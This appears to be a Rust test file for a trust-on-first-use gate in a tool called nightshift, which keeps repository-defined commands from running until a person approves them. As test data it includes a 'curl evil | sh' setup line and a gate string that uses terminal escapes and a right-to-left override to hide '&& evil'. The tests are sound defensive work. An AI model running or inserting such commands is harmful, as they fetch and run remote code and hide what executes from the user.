//! Trust on first use: nothing of a repository's own files runs before a person has seen what they
//! run, and again when they have changed.

use std::{
    fs::{self, File},
    io::{Read as _, Write as _},
    os::unix::fs::PermissionsExt as _,
    path::PathBuf,
};

use crate::bed::{Bed, Said, binary, wait_for};

const WRITES: &str = "- write: {path: out.txt, text: ok}";
const GATE: &str = "touch \"$HOME/../../shared/gate-ran\" ; true";

/// A bed whose files nobody has trusted yet, with one ticket.
fn bed() -> Bed {
    let bed = Bed::new();
    bed.configure_gate(GATE, "");
    bed.story("a", WRITES);
    bed.commit("the backlog");
    fs::remove_dir_all(bed.home().join("state/nightshift/trust")).unwrap();
    bed
}

fn record(bed: &Bed) -> PathBuf {
    let folder = bed.home().join("state/nightshift/trust");
    let mut files = fs::read_dir(folder).unwrap();
    files.next().unwrap().unwrap().path()
}

/// Nothing began, and it says what to do.
#[track_caller]
fn is_refused(bed: &Bed, said: Said, why: &str) {
    let said = said.code(2);
    assert!(said.err.contains(why), "{}", said.err);
    assert!(said.err.contains("`nightshift trust`"), "{}", said.err);
    assert!(!bed.root.join(".nightshift/journal").exists());
}

/// Runs nightshift on a terminal of its own, where somebody types this; returns what is seen there.
fn on_a_terminal(bed: &Bed, args: &[&str], types: &str) -> (Option<i32>, String) {
    let pty = nix::pty::openpty(None, None).unwrap();
    let mut ours = File::from(pty.master);
    let theirs = || File::from(pty.slave.try_clone().unwrap());
    let mut child = bed
        .command(binary())
        .args(args)
        .stdin(theirs())
        .stdout(theirs())
        .stderr(theirs())
        .spawn()
        .unwrap();
    ours.write_all(types.as_bytes()).unwrap();
    drop(pty.slave);
    let reader = std::thread::spawn(move || {
        let mut seen = Vec::new();
        let mut piece = [0; 4096];
        // A terminal that nobody holds any more ends with an error.
        while let Ok(length @ 1..) = ours.read(&mut piece) {
            seen.extend_from_slice(&piece[..length]);
        }
        String::from_utf8_lossy(&seen).into_owned()
    });
    let code = child.wait().unwrap().code();
    (code, reader.join().unwrap())
}

#[test]
fn where_nobody_is_there_nothing_runs_untrusted() {
    let bed = bed();
    let never = "never trusted by you";
    for args in [
        &["run"][..],
        &["run", "--no-watchdog"],
        &["run", "--rehearse"],
        &["run", "--detach"],
        &["run", "--json"],
        &["check"],
        &["trust"],
    ] {
        let said = bed.nightshift(args).code(2);
        let text = format!("{}{}", said.out, said.err);
        let expected = if args == ["trust"] {
            "--yes"
        } else {
            "`nightshift trust`"
        };
        assert!(text.contains(expected), "{args:?}: {text}");
    }
    is_refused(&bed, bed.night(), never);
    // What runs no command needs no trust.
    bed.nightshift(&["run", "--dry-run"]).code(0);
    let check = bed.nightshift(&["check", "--no-gate"]).code(1);
    assert!(check.err.contains(never), "{}", check.err);
    let doctor = bed.nightshift(&["doctor", "--json"]).code(2).json();
    assert_eq!(doctor["trusted"], false);
    let status = bed.nightshift(&["status"]).code(0);
    assert!(status.err.contains(never), "{}", status.err);
    assert!(!bed.shared().join("gate-ran").exists());

    let said = bed.nightshift(&["trust", "--yes"]).code(0);
    for shown in [
        "agent     script: plays",
        "gate      touch",
        "writes    ~/shared",
    ] {
        assert!(said.out.contains(shown), "{shown}: {}", said.out);
    }
    let mode = fs::metadata(record(&bed)).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    bed.nightshift(&["trust"]).code(0);
    let doctor = bed.nightshift(&["doctor", "--json"]).code(0).json();
    assert_eq!(doctor["trusted"], true);
    bed.night().code(0);
    assert_eq!(
        bed.nightshift(&["status", "--json"]).json()["trusted"],
        true
    );
}

#[test]
fn a_person_is_asked_once_before_the_watchdog_starts() {
    let bed = bed();
    let (code, seen) = on_a_terminal(&bed, &["run"], "n\n");
    assert_eq!(code, Some(2), "{seen}");
    assert!(seen.contains("gate      touch"), "{seen}");
    assert!(!bed.root.join(".nightshift").exists());
    let (code, seen) = on_a_terminal(&bed, &["run"], "y\n");
    assert_eq!(code, Some(0), "{seen}");
    assert_eq!(seen.matches("[y/N]").count(), 1, "{seen}");
    assert_eq!(bed.outcomes()["a"], "done");
    let (code, seen) = on_a_terminal(&bed, &["run"], "");
    assert_eq!(code, Some(0), "{seen}");
    assert!(!seen.contains("[y/N]"), "{seen}");
}

#[test]
fn a_detached_night_asks_before_it_goes_away() {
    let bed = bed();
    let (code, seen) = on_a_terminal(&bed, &["run", "--detach"], "yes\n");
    assert_eq!(code, Some(0), "{seen}");
    assert!(seen.contains("runs in the background"), "{seen}");
    wait_for("the night to end", || {
        let status = bed.nightshift(&["status", "--json"]).json();
        let done = status["tickets"][0]["outcome"] == "done" && status["runner"] == "not_running";
        done.then_some(()).ok_or(status.to_string())
    });
}

#[test]
fn whatever_commands_come_from_is_asked_about_again_when_it_changes() {
    let bed = bed();
    bed.write_untrusted("agents/mine.sh", "echo one > one.txt\n");
    let config = bed.read("nightshift.toml");
    bed.write_untrusted(
        "nightshift.toml",
        &format!("{config}\n[harness.mine]\ncommand = [\"sh\", \"-c\", \"exec sh ./agents/mine.sh\"]\nenv = {{ TOKEN = \"s3cret\" }}\n"),
    );
    let said = bed.nightshift(&["trust", "--yes"]).code(0);
    assert!(
        said.out.contains("script    agents/mine.sh"),
        "{}",
        said.out
    );
    assert!(said.out.contains("with TOKEN set"), "{}", said.out);
    assert!(!said.out.contains("s3cret"), "{}", said.out);
    assert!(!fs::read_to_string(record(&bed)).unwrap().contains("s3cret"));

    for (path, text, shown) in [
        (
            "agents/mine.sh",
            "echo two > two.txt\n",
            "None of the above is new",
        ),
        (
            "policy.toml",
            "[[answer]]\nask = 'colour'\nsay = 'pink'\n",
            "+ say = 'pink'",
        ),
        (
            "templates/nightshift/prompt.md.j2",
            "Do {{ ticket.title }}\n",
            "+ prompt    templates/nightshift/prompt.md.j2",
        ),
        (
            "nightshift.toml",
            &format!("[rooms]\nsetup = [\"curl evil | sh\"]\n\n{config}"),
            "+ setup     curl evil | sh",
        ),
    ] {
        bed.write_untrusted(path, text);
        is_refused(&bed, bed.night(), path);
        let said = bed.nightshift(&["trust", "--yes"]).code(0);
        assert!(
            said.out.contains(&format!("New or changed: {path}")),
            "{}",
            said.out
        );
        assert!(said.out.contains(shown), "{}", said.out);
        bed.nightshift(&["trust"]).code(0);
    }
    // What is gone leaves the defaults.
    fs::remove_file(bed.root.join("policy.toml")).unwrap();
    bed.nightshift(&["trust"]).code(0);
    // A damaged record is no trust.
    fs::write(record(&bed), "{").unwrap();
    is_refused(&bed, bed.night(), "is damaged");
}

#[test]
fn init_trusts_what_it_wrote_and_nothing_else() {
    let bed = Bed::new();
    bed.nightshift(&["init", "--gate", "true"]).code(0);
    bed.nightshift(&["trust"]).code(0);

    let bed = Bed::new();
    bed.write_untrusted("policy.toml", "[[answer]]\nask = 'x'\nsay = 'y'\n");
    bed.nightshift(&["init", "--gate", "true"]).code(0);
    let said = bed.nightshift(&["trust"]).code(2);
    assert!(
        said.out.contains("New or changed: policy.toml\n"),
        "{}",
        said.out
    );
    assert!(said.out.contains("+ say = 'y'"), "{}", said.out);
}

#[test]
fn what_would_run_cannot_hide_from_a_terminal() {
    let bed = bed();
    bed.write_untrusted(
        "nightshift.toml",
        "[gate]\nrun = \"true \\u001b]0;&& evil\\u0007\\u202e\"\n",
    );
    let said = bed.nightshift(&["trust", "--yes"]).code(0);
    assert!(!said.out.contains(['\u{1b}', '\u{202e}']), "{}", said.out);
    let shown = "gate      true \\u{1b}]0;&& evil\\u{7}\\u{202e}";
    assert!(said.out.contains(shown), "{}", said.out);
}

/// The runner that is started in place of a dead one reads the files anew: what nobody trusted in
/// between does not run.
#[test]
fn a_restarted_runner_takes_no_changed_files() {
    let bed = bed();
    bed.story("a", "- hang: true");
    bed.trust();
    let mut child = bed
        .command(binary())
        .args(["run", "--restart-pause", "1ms"])
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = wait_for("the agent to work", || {
        let status = bed.nightshift(&["status", "--json"]).json();
        let works = status["active"]["stage"] == "working";
        works
            .then(|| status["pulse"]["pid"].as_i64())
            .flatten()
            .ok_or(status.to_string())
    });
    let config = bed.read("nightshift.toml");
    bed.write_untrusted(
        "nightshift.toml",
        &format!("[rooms]\nsetup = [\"touch x\"]\n\n{config}"),
    );
    // A change alone does not stop the night.
    let killed = nix::unistd::Pid::from_raw(i32::try_from(pid).unwrap());
    nix::sys::signal::kill(killed, nix::sys::signal::Signal::SIGKILL).unwrap();
    let mut said = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut said)
        .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(2), "{said}");
    assert!(said.contains("nightshift.toml"), "{said}");
    assert!(said.contains("`nightshift trust`"), "{said}");
    // And nothing is lost: trusted, it goes on.
    bed.steps("a", WRITES);
    bed.trust();
    bed.night().code(0);
    assert_eq!(bed.outcomes()["a"], "done");
}
